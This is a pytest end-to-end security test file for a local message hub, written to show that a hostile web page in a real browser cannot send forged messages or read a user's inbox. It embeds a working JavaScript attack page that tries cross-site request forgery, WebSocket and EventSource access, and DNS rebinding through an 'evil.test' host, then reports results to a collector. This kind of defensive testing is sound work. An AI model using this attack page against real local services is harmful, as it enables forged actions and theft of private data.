"""A page of a stranger in a real browser, on the machine of somebody who has a hub: nothing gets through."""

import asyncio
import json
from typing import Any

import pytest
from aiohttp import ClientSession

from tests.e2e.browser import Rebound, Stranger, chromium, needs_chromium
from tests.e2e.hubs import HubProcess

SEND = {"to": "bob", "text": "OWNED", "mode": "silent", "from": "eve"}
ATTACK = """<!doctype html><title>a page of a stranger</title><body><script>
const hub = "HUB", send = SEND, found = {};
async function attempt(name, run) {
  try { found[name] = String(await Promise.race([run(), new Promise((_, no) => setTimeout(() => no("no answer"), 4000))])); }
  catch (error) { found[name] = "error: " + error; }
}
const read = async (answer) => answer.status + " " + (await answer.text()).slice(0, 200);
const post = (type, more) => fetch(hub + "/api/messages.send",
  {method: "POST", body: JSON.stringify(send), headers: type ? {"Content-Type": type} : {}, ...more});
function form(kind, fields, method = "POST") {
  return new Promise((done) => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + Math.random();
    Object.assign(form, {method, action: hub + "/api/messages.send", enctype: kind, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      form.append(input);
    }
    frame.onload = () => setTimeout(() => done("loaded"), 50);
    document.body.append(frame, form);
    form.submit();
  });
}
function socket(address) {
  return new Promise((done, fail) => {
    const socket = new WebSocket(address);
    socket.onopen = () => {
      socket.send(JSON.stringify({id: 1, method: "messages.send", params: send}));
    };
    socket.onmessage = (event) => done("told " + event.data);
    socket.onerror = () => fail("refused");
  });
}
function tag(name, attribute, address) {
  return new Promise((done, fail) => {
    const element = document.createElement(name);
    element.onload = () => done("loaded");
    element.onerror = () => fail("refused");
    element[attribute] = address;
    document.body.append(element);
  });
}
(async () => {
  await attempt("fetch json", async () => read(await post("application/json")));
  await attempt("fetch text", async () => read(await post("text/plain")));
  await attempt("fetch form", async () => read(await post("application/x-www-form-urlencoded")));
  await attempt("no-cors text", async () => read(await post("text/plain", {mode: "no-cors"})));
  await attempt("no-cors json", async () => read(await post("application/json", {mode: "no-cors"})));
  await attempt("no-cors blob", async () => read(await fetch(hub + "/api/messages.send",
    {method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(send)])})));
  await attempt("with credentials", async () => read(await post("text/plain", {credentials: "include"})));
  await attempt("read", async () => read(await fetch(hub + "/api/messages.inbox?from=bob")));
  await attempt("read no-cors", async () => read(await fetch(hub + "/api/messages.inbox?from=bob", {mode: "no-cors"})));
  await attempt("health", async () => read(await fetch(hub + "/health")));
  await attempt("beacon", async () => navigator.sendBeacon(hub + "/api/messages.send", JSON.stringify(send)));
  await attempt("beacon json", async () => navigator.sendBeacon(hub + "/api/messages.send",
    new Blob([JSON.stringify(send)], {type: "application/json"})));
  await attempt("form", () => form("application/x-www-form-urlencoded", send));
  await attempt("form text", () => form("text/plain", {['{"from":"eve","to":"bob","mode":"silent","text":"OWNED']: '"}'}));
  await attempt("form parts", () => form("multipart/form-data", send));
  await attempt("form get", () => form("", send, "GET"));
  await attempt("image", () => tag("img", "src", hub + "/api/messages.send?to=bob&text=OWNED&from=eve"));
  await attempt("script", () => tag("script", "src", hub + "/api/messages.inbox?from=bob"));
  await attempt("socket", () => socket(hub.replace("http", "ws") + "/ws?from=eve"));
  await attempt("events", () => new Promise((done, fail) => {
    const source = new EventSource(hub + "/ws"); source.onopen = () => done("open"); source.onerror = () => fail("refused");
  }));
  await new Promise((done) => setTimeout(done, 300));
  await fetch("TOLD", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script></body>"""
FORMS = {"form", "form text", "form parts", "form get"}  # their frames load: what they show is the refusal


async def prepared(hub: HubProcess) -> int:
    """A hub in which bob has a message that is nobody else's; its head."""
    async with ClientSession(f"http://127.0.0.1:{hub.told['port']}") as session:
        for verb, params in (
            ("agents.here", {"from": "bob"}),
            ("messages.send", {"from": "ann", "to": "bob", "text": "SECRET", "mode": "silent"}),
        ):
            async with session.post(f"/api/{verb}", json=params) as answer:
                assert answer.status == 200, await answer.text()
        async with session.get("/api/hub.status") as answer:
            return int((await answer.json())["hub"]["head"])


async def log_of(hub: HubProcess) -> list[dict[str, Any]]:
    url = f"http://127.0.0.1:{hub.told['port']}/api/events.page?last=1000"
    async with ClientSession() as session, session.get(url) as answer:
        return list((await answer.json())["events"])


def check(found: dict[str, str]) -> None:
    """No attempt has come to anything that a page can use."""
    for name, outcome in found.items():
        assert "SECRET" not in outcome, (name, outcome)
        assert not outcome.startswith(("told", "open")), (name, outcome)
        assert not outcome.startswith("200"), (name, outcome)
        if name not in FORMS and not name.startswith("beacon"):
            assert outcome.startswith(("error:", "403")), (name, outcome)


async def nothing_happened(hub: HubProcess, head: int) -> None:
    events = await log_of(hub)
    assert not [event for event in events if event["position"] > head]
    assert "OWNED" not in json.dumps(events)
    assert "eve" not in {event["body"].get("name") for event in events}


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
async def test_a_page_of_another_origin_changes_nothing_and_learns_nothing(hub_process: HubProcess, name: str) -> None:
    needs_chromium()
    await asyncio.to_thread(hub_process.serve)
    head = await prepared(hub_process)
    page = ATTACK.replace("HUB", f"http://{name}:{hub_process.told['port']}").replace("SEND", json.dumps(SEND))
    async with Stranger(page) as stranger, chromium(f"http://127.0.0.1:{stranger.port}/"):
        found = await asyncio.wait_for(stranger.told, 45)
    check(found)
    await nothing_happened(hub_process, head)


async def test_a_name_that_is_rebound_to_the_hub_changes_nothing_and_learns_nothing(hub_process: HubProcess) -> None:
    """To the browser page and hub are one origin: only the name in Host, and in Origin, tells them apart."""
    needs_chromium()
    await asyncio.to_thread(hub_process.serve)
    head = await prepared(hub_process)
    port = int(hub_process.told["port"])
    address = f"http://evil.test:{port}"
    page = ATTACK.replace("HUB", address).replace("SEND", json.dumps(SEND))
    async with Stranger(page) as stranger, Rebound(stranger.port, port) as rebound:
        async with chromium(f"{address}/", "--host-resolver-rules=MAP evil.test 127.0.0.2"):
            found = await asyncio.wait_for(stranger.told, 45)
        assert rebound.passed > 1
    check(found)
    assert all(found[name].startswith("403") for name in ("fetch json", "fetch text", "read", "health"))
    await nothing_happened(hub_process, head)


async def test_the_browser_would_get_through_if_nobody_looked(hub_process: HubProcess) -> None:
    """The attack itself works: what the same page does on our own origin is done."""
    needs_chromium()
    await asyncio.to_thread(hub_process.serve)
    await prepared(hub_process)
    port = int(hub_process.told["port"])
    page = ATTACK.replace("HUB", f"http://127.0.0.2:{port}").replace("SEND", json.dumps(SEND))
    async with Stranger(page) as stranger, Rebound(stranger.port, port), chromium(f"http://127.0.0.2:{port}/"):
        found = await asyncio.wait_for(stranger.told, 45)
    assert found["fetch json"].startswith("200")
    assert "SECRET" in found["read"]
    assert found["socket"].startswith("told")
    assert found["fetch text"].startswith("415")
    assert "OWNED" in json.dumps(await log_of(hub_process))
